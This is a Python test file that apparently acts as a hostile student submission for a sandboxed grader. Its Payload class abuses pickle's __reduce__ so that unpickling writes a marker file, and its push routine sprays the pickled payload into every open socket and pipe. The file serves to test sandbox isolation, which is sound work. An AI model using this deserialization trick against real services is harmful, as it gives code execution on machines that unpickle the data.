"""Answers with an object whose unpickling writes a file, and pushes its pickle down the channel.

If anything outside unpickled it, the student's code would run there.
"""

# %% extra
import os
import pickle
import select
import stat
import struct
import tempfile

import numpy as np

MARKER = os.path.join(tempfile.gettempdir(), "hostile-was-here-pickle")


class Payload:
    def __reduce__(self):
        return (open, (MARKER, "w"))


def push(data):
    """Writes to every pipe and socket at hand."""
    for number in range(256):
        try:
            mode = os.fstat(number).st_mode
            channel = stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode)
            if channel and select.select([], [number], [], 0)[1]:
                os.write(number, data)
        except (OSError, ValueError):
            continue


# %% answers
def FUNCTION(*args, **kwargs):
    data = pickle.dumps(Payload())
    push(data)
    push(struct.pack("!i", len(data)) + data)
    return np.array([Payload()], dtype=object)
